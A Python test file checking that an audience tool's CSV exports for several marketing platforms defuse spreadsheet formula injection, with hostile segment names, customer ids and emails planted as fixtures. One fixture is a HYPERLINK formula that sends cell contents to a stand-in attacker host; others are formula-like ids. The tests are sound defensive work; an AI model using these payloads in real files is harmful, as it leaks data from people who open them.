"""Nothing dangerous leaves (issue 13.4): no export runs a formula when a spreadsheet opens it.

A segment renamed ``=HYPERLINK(...)`` used to be written raw into every platform's file,
and an address such as ``=1+2@example.com`` was accepted and exported as it was. Here a
real workspace holds hostile text where people can put it (a segment's name, a customer
id) and every platform's file is read back with Python's csv module: each such cell
carries the text mark, and the email column is the exact address.
"""

from __future__ import annotations

import csv
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from audience import Workspace
from audience.activate.exports import LAYOUTS, PLATFORMS, ExportResult
from audience.cli import app
from audience.store.features_table import export_features
from audience.synth import generate
from tests.conftest import flat
from tests.models.audiences import AS_OF

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"x");=1+2'
HOSTILE_IDS = ("=1+2", "+cmd", "-12.5")
"""Customer ids as a CRM might hold them (ingest trims an id's tab and line breaks, and
takes an id with an ``@`` for an email address)."""
STORED_EARLIER = "=2+3@example.com"
"""An address ingested before ingest refused such addresses (a workspace from before)."""
pytestmark = pytest.mark.slow


def _hostile_contacts(path: Path) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Customer ID", "Email Address", "Signup Date", "Email Consent"])
        for number, contact_id in enumerate((*HOSTILE_IDS, "EARLIER")):
            writer.writerow([contact_id, f"h{number}@example.com", "2025-01-01", "subscribed"])
    return path


@dataclass(frozen=True)
class Hostile:
    """A workspace (closed) with a run and the segment that holds the hostile contacts."""

    path: Path
    run: str
    segment: str

    def export(self, out: Path, platform: str | None = None) -> ExportResult:
        with Workspace(self.path) as ws:
            return ws.export(self.segment, out, platform=platform, run_id=self.run)  # type: ignore[arg-type]

    def query(self, sql: str) -> list[tuple[object, ...]]:
        with Workspace(self.path, access="read") as ws:
            return ws.database.con.execute(
                sql, {"run": self.run, "segment": self.segment}
            ).fetchall()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    """A run whose prospects include contacts with hostile ids, their segment renamed
    to a formula; one contact's address is hostile in the store (as an older ingest left it)."""
    folder = tmp_path_factory.mktemp("injection")
    data = generate(folder / "data", contacts=600, seed=13, as_of=AS_OF)
    with Workspace.init(folder / "ws") as ws:
        ws.ingest(data.contacts_path, now=AS_OF)
        ws.ingest(data.events_path, now=AS_OF)
        ws.ingest(_hostile_contacts(folder / "hostile.csv"), kind="contacts", now=AS_OF)
        ws.database.con.execute(
            "UPDATE contacts SET email = ? WHERE contact_id = 'EARLIER'", [STORED_EARLIER]
        )
        run = ws.segment(AS_OF).run_id
        segments = ws.database.con.execute(
            "SELECT DISTINCT segment_id FROM memberships "
            "WHERE run_id = ? AND list_contains(?, contact_id)",
            [run, [*HOSTILE_IDS, "EARLIER"]],
        ).fetchall()
        assert len(segments) == 1, "the hostile contacts should share one segment"
        segment = str(segments[0][0])
        ws.rename_segment(segment, HOSTILE_NAME, run)
    return Hostile(folder / "ws", run, segment)


def _read(path: Path, platform: str | None) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=LAYOUTS[platform].delimiter))


def _column(platform: str | None, sql: str) -> str:
    return next(header for header, source in LAYOUTS[platform].columns if source == sql)


@pytest.mark.parametrize("platform", [None, *PLATFORMS])
def test_a_segment_named_as_a_formula_is_text_in_every_platforms_file(
    hostile: Hostile, platform: str | None, tmp_path: Path
) -> None:
    path = tmp_path / "out.csv"
    hostile.export(path, platform)
    rows = _read(path, platform)
    names = {row[_column(platform, "segment_name")] for row in rows}
    assert names == {"'" + HOSTILE_NAME}


@pytest.mark.parametrize("platform", [None, *PLATFORMS])
def test_no_cell_of_any_platforms_file_starts_like_a_formula(
    hostile: Hostile, platform: str | None, tmp_path: Path
) -> None:
    path = tmp_path / "out.csv"
    result = hostile.export(path, platform)
    rows = _read(path, platform)
    starts = {cell[:1] for row in rows for cell in row.values()}
    assert not starts & set("=+-@\t\r\n")
    assert len(rows) == result.rows
    text = path.read_text(encoding="utf-8")
    assert text.startswith('"'), "every cell is quoted, the header too"


@pytest.mark.parametrize("platform", [None, *PLATFORMS])
def test_the_email_column_is_the_exact_address_and_a_hostile_one_is_left_out(
    hostile: Hostile, platform: str | None, tmp_path: Path
) -> None:
    path = tmp_path / "out.csv"
    result = hostile.export(path, platform)
    emails = [row[_column(platform, "email")] for row in _read(path, platform)]
    stored = {
        str(email)
        for (email,) in hostile.query(
            "SELECT c.email FROM memberships m JOIN contacts c USING (contact_id) "
            "WHERE m.run_id = $run AND m.segment_id = $segment"
        )
    }
    assert set(emails) <= stored
    of_hostile_ids = {f"h{number}@example.com" for number in range(len(HOSTILE_IDS))}
    # Braze keys on the hostile ids, so leaves their contacts out (test below).
    assert of_hostile_ids & set(emails) == (set() if platform == "braze" else of_hostile_ids)
    assert STORED_EARLIER not in emails
    assert "'" + STORED_EARLIER not in emails
    assert result.formula_keys >= 1


def test_the_generic_file_marks_hostile_customer_ids(hostile: Hostile, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    hostile.export(path)
    ids = {row["contact_id"] for row in _read(path, None)}
    assert {"'" + contact_id for contact_id in HOSTILE_IDS} <= ids


def test_braze_leaves_out_contacts_whose_external_id_starts_like_a_formula(
    hostile: Hostile, tmp_path: Path
) -> None:
    """Braze matches on ``external_id``: marked, it would name another user."""
    path = tmp_path / "braze.csv"
    result = hostile.export(path, "braze")
    ids = {row["external_id"] for row in _read(path, "braze")}
    assert not ids & {*HOSTILE_IDS, *("'" + contact_id for contact_id in HOSTILE_IDS)}
    assert result.formula_keys == len(HOSTILE_IDS) + 1  # and the contact with a hostile email


def test_every_member_is_written_or_counted(hostile: Hostile, tmp_path: Path) -> None:
    result = hostile.export(tmp_path / "all.csv", "mailchimp")
    (members,) = hostile.query(
        "SELECT count(*) FROM memberships WHERE run_id = $run AND segment_id = $segment"
    )[0]
    left_out = result.suppressed_now + result.without_email + result.formula_keys
    assert result.rows + left_out == members
    assert result.formula_keys == 1


def test_the_cli_renames_to_a_formula_and_says_who_it_left_out(
    hostile: Hostile, tmp_path: Path
) -> None:
    """``audience segments rename`` then ``audience export``, as a person would run them."""
    runner = CliRunner()
    where = ["--workspace", str(hostile.path)]
    renamed = runner.invoke(
        app, ["segments", "rename", hostile.segment, "@SUM(1+1)*cmd", "--run", hostile.run, *where]
    )
    assert renamed.exit_code == 0, renamed.output
    out = tmp_path / "mailchimp.csv"
    exported = runner.invoke(
        app,
        ["export", "--segment", hostile.segment, "--platform", "mailchimp", "--out", str(out),
         "--run", hostile.run, *where],
        env={"COLUMNS": "400"},
    )  # fmt: skip
    assert exported.exit_code == 0, exported.output
    assert "left out 1 contacts whose email address" in flat(exported.output)
    assert {row["Tags"] for row in _read(out, "mailchimp")} == {"'@SUM(1+1)*cmd"}
    back = runner.invoke(
        app, ["segments", "rename", hostile.segment, HOSTILE_NAME, "--run", hostile.run, *where]
    )
    assert back.exit_code == 0, back.output


def test_the_features_csv_marks_hostile_ids_and_keeps_numbers(
    hostile: Hostile, tmp_path: Path
) -> None:
    path = tmp_path / "features.csv"
    with Workspace(hostile.path, access="read") as ws:
        export_features(ws.database, AS_OF, path)
    rows = _read(path, None)
    ids = {row["contact_id"] for row in rows}
    assert {"'" + contact_id for contact_id in HOSTILE_IDS} <= ids
    assert not {cell[:1] for row in rows for cell in row.values()} & set("=+@\t\r\n")
    minus = [cell for row in rows for cell in row.values() if cell.startswith("-")]
    assert [cell for cell in minus if not _is_number(cell)] == []  # negative numbers only


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
